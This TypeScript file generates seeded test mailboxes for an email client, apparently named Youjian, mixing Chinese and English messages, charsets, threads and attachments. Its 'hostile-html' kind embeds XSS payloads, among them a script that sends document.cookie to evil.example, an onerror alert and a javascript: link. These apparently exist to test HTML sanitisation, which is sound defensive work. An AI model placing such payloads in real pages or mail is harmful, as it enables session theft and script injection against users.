import {
  ATTACHMENT_NAMES,
  CHINESE_PEOPLE,
  CHINESE_SENTENCES,
  CHINESE_SUBJECTS,
  ENGLISH_PEOPLE,
  ENGLISH_SENTENCES,
  ENGLISH_SUBJECTS,
} from './corpus';
import { addressHeader, encodedWords, encodeText, type SeedCharset } from './mime-encoding';
import {
  attachmentPart,
  inlineImagePart,
  type MimePart,
  multipart,
  serializePart,
  type TransferEncoding,
  textPart,
} from './mime-parts';
import { messageSeed, SeededRandom } from './random';

export type SeedKind = 'plain' | 'html' | 'hostile-html' | 'attachment' | 'inline-image';

export interface SeedMessage {
  /** RFC 5322 message, CRLF line endings */
  raw: Buffer;
  flags: string[];
  date: Date;
  messageId: string;
  /** the subject as a reader should see it */
  subject: string;
  kind: SeedKind;
  language: 'zh' | 'en';
  charset: SeedCharset | 'us-ascii';
}

export interface GenerateOptions {
  seed: number;
  /** the mailbox owner, in To: */
  to: string;
  /** how many messages the mailbox gets: dates spread over them, oldest first */
  count: number;
}

/** Messages come in blocks of this size; some blocks are one reply chain. */
const THREAD_BLOCK = 5;
const NEWEST = Date.parse('2025-11-25T09:30:00+08:00');
const ONE_PIXEL_PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

export function seedMessageId(seed: number, index: number): string {
  return `<seed-${seed}-${index}@seed.youjian.test>`;
}

/** Where a message stands in its conversation: replies reference every earlier message. */
function threadPosition(seed: number, index: number): { root: number; position: number } {
  const root = index - (index % THREAD_BLOCK);
  const threaded = new SeededRandom(messageSeed(seed ^ 0x7e4d, root)).chance(0.35);
  return threaded ? { root, position: index - root } : { root: index, position: 0 };
}

function conversationTopic(seed: number, root: number) {
  const random = new SeededRandom(messageSeed(seed ^ 0x51b, root));
  const language: 'zh' | 'en' = random.chance(0.6) ? 'zh' : 'en';
  const subject = random.pick(language === 'zh' ? CHINESE_SUBJECTS : ENGLISH_SUBJECTS);
  return { language, subject };
}

/** Message `index` of a seeded mailbox: same inputs, same bytes. */
export function generateMessage(index: number, options: GenerateOptions): SeedMessage {
  const { seed } = options;
  const random = new SeededRandom(messageSeed(seed, index));
  const { root, position } = threadPosition(seed, index);
  const { language, subject: topic } = conversationTopic(seed, root);
  const replyPrefix = language === 'zh' ? '回复：' : 'Re: ';
  const subject = position > 0 ? `${replyPrefix}${topic}` : topic;
  const charset: SeedCharset | 'us-ascii' =
    language === 'en' ? 'us-ascii' : random.pick(['GBK', 'GB2312', 'GB18030', 'UTF-8'] as const);
  const headerCharset: SeedCharset = charset === 'us-ascii' ? 'UTF-8' : charset;
  const sender = random.pick(language === 'zh' ? CHINESE_PEOPLE : ENGLISH_PEOPLE);
  const spacingMs = Math.min(
    6 * 3600_000,
    Math.floor((400 * 86400_000) / Math.max(options.count, 1)),
  );
  const date = new Date(
    NEWEST - (options.count - 1 - index) * spacingMs - random.int(0, 600) * 1000,
  );
  const messageId = seedMessageId(seed, index);
  const kind = random.pick([
    'plain',
    'plain',
    'plain',
    'html',
    'html',
    'hostile-html',
    'attachment',
    'attachment',
    'inline-image',
  ] as const);

  // Some GB2312-labelled mail carries its subject as raw 8-bit bytes, against RFC 5322.
  const rawSubject = charset === 'GB2312' && random.chance(0.1);
  const headers = [
    `From: ${addressHeader(sender.name, sender.address, headerCharset)}`,
    `To: ${options.to}`,
    `Subject: ${
      rawSubject || (charset === 'us-ascii' && isAscii(subject))
        ? subject
        : encodedWords(subject, headerCharset, random.chance(0.8) ? 'B' : 'Q')
    }`,
    `Date: ${formatDate(date)}`,
    `Message-ID: ${messageId}`,
  ];
  if (position > 0) {
    const earlier = Array.from({ length: position }, (_, i) => seedMessageId(seed, root + i));
    headers.push(`In-Reply-To: ${earlier.at(-1)}`, `References: ${earlier.join('\r\n ')}`);
  }
  headers.push('MIME-Version: 1.0', 'X-Mailer: Youjian seed');

  const body = buildBody(kind, { random, language, charset, index, subject });
  const head = Buffer.concat([
    rawSubject
      ? encodeText(`${headers.join('\r\n')}\r\n`, 'GB2312')
      : Buffer.from(`${headers.join('\r\n')}\r\n`, 'latin1'),
  ]);
  const raw = Buffer.concat([head, serializePart(body)]);

  const flags: string[] = [];
  if (random.chance(0.65)) flags.push('\\Seen');
  if (random.chance(0.08)) flags.push('\\Flagged');
  if (random.chance(0.1)) flags.push('\\Answered');
  return { raw, flags, date, messageId, subject, kind, language, charset };
}

interface BodyContext {
  random: SeededRandom;
  language: 'zh' | 'en';
  charset: SeedCharset | 'us-ascii';
  index: number;
  subject: string;
}

function buildBody(kind: SeedKind, context: BodyContext): MimePart {
  const { random, language, charset, index } = context;
  const sentences = language === 'zh' ? CHINESE_SENTENCES : ENGLISH_SENTENCES;
  const paragraphs = Array.from({ length: random.int(2, 6) }, () =>
    Array.from({ length: random.int(1, 4) }, () => random.pick(sentences)).join(
      language === 'zh' ? '' : ' ',
    ),
  );
  const text = `${paragraphs.join('\n\n')}\n`;
  const encoding: TransferEncoding = random.pick(['base64', 'quoted-printable', '8bit'] as const);
  const boundary = (name: string) => `----=_${name}_${index}_${random.int(1e8, 1e9 - 1)}`;
  const plain = textPart('plain', text, charset, encoding);
  // HTML is always UTF-8 or the message's Chinese charset, never 7-bit ASCII only
  const htmlCharset: SeedCharset = charset === 'us-ascii' ? 'UTF-8' : charset;

  if (kind === 'plain') return plain;
  if (kind === 'html' || kind === 'hostile-html') {
    const paragraphsHtml = paragraphs.map((p) => `<p style="margin:0 0 8px">${escapeHtml(p)}</p>`);
    const remoteImage = kind === 'hostile-html' || random.chance(0.5);
    const extras =
      kind === 'hostile-html'
        ? [
            '<script>document.location="https://evil.example/steal?c="+document.cookie</script>',
            '<img src="x" onerror="alert(1)">',
            '<a href="javascript:alert(2)">查看详情 / details</a>',
            '<iframe src="https://evil.example/frame"></iframe>',
          ]
        : [];
    const image = remoteImage
      ? [`<img src="https://images.example.com/banner-${index}.png" width="600" alt="banner">`]
      : [];
    const html = `<!DOCTYPE html><html><head><meta charset="${htmlCharset}"><title>${escapeHtml(
      context.subject,
    )}</title></head><body><table width="100%"><tr><td>${[
      ...image,
      ...paragraphsHtml,
      ...extras,
    ].join('\n')}</td></tr></table></body></html>`;
    return multipart('alternative', boundary('alt'), [
      plain,
      textPart('html', html, htmlCharset, 'base64'),
    ]);
  }
  if (kind === 'inline-image') {
    const contentId = `logo-${index}@seed.youjian.test`;
    const html = `<html><body><img src="cid:${contentId}" alt="logo">${paragraphs
      .map((p) => `<p>${escapeHtml(p)}</p>`)
      .join('')}</body></html>`;
    const related = multipart('related', boundary('rel'), [
      textPart('html', html, htmlCharset, 'quoted-printable'),
      inlineImagePart(contentId, ONE_PIXEL_PNG),
    ]);
    return multipart('alternative', boundary('alt'), [plain, related]);
  }
  const attachments = Array.from({ length: random.int(1, 2) }, () => {
    const filename = random.pick(ATTACHMENT_NAMES);
    const type = filename.endsWith('.txt')
      ? 'text/plain'
      : filename.endsWith('.jpg')
        ? 'image/jpeg'
        : 'application/octet-stream';
    const filenameCharset: SeedCharset = random.chance(0.7) ? 'UTF-8' : 'GBK';
    const size = random.chance(0.8) ? random.int(512, 24_000) : random.int(50_000, 300_000);
    return attachmentPart(filename, random.bytes(size), type, filenameCharset);
  });
  return multipart('mixed', boundary('mix'), [plain, ...attachments]);
}

function isAscii(text: string): boolean {
  return /^[\x20-\x7e]*$/.test(text);
}

function escapeHtml(text: string): string {
  return text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;');
}

/** RFC 5322 §3.3 date-time in China Standard Time. */
function formatDate(date: Date): string {
  const local = new Date(date.getTime() + 8 * 3600_000);
  const days = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
  const months = [
    'Jan',
    'Feb',
    'Mar',
    'Apr',
    'May',
    'Jun',
    'Jul',
    'Aug',
    'Sep',
    'Oct',
    'Nov',
    'Dec',
  ];
  const pad = (n: number) => String(n).padStart(2, '0');
  return `${days[local.getUTCDay()]}, ${local.getUTCDate()} ${months[local.getUTCMonth()]} ${local.getUTCFullYear()} ${pad(
    local.getUTCHours(),
  )}:${pad(local.getUTCMinutes())}:${pad(local.getUTCSeconds())} +0800`;
}
